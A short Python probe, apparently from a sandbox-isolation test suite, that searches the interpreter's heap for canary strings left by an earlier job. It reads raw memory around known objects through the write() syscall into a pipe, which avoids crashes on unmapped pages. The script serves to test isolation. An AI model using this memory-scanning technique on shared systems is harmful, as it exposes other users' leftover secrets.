"""Search the interpreter's heap for what an earlier job left, by reading memory around known objects.

Shows: PWNED on stdout.
Beside: other jobs.
"""

import gc
import re

from kit import ctypes, os, pwned, syscall

regions = {id(thing) >> 18 for thing in gc.get_objects()}
regions |= {region + step for region in regions for step in (-1, 1)}
found = set()
reader, writer = os.pipe()
os.set_blocking(writer, False)
for region in sorted(regions):
    for part in range(0, 1 << 18, 1 << 12):
        # write() answers EFAULT for memory that is not there, so that nothing crashes
        if syscall("write", writer, ctypes.c_void_p((region << 18) + part), 4096) == 4096:
            found |= set(re.findall(rb"CANARY-[A-Z]+-\d{4}", os.read(reader, 4096)))
if found:
    pwned(found)
print(len(regions), "regions")
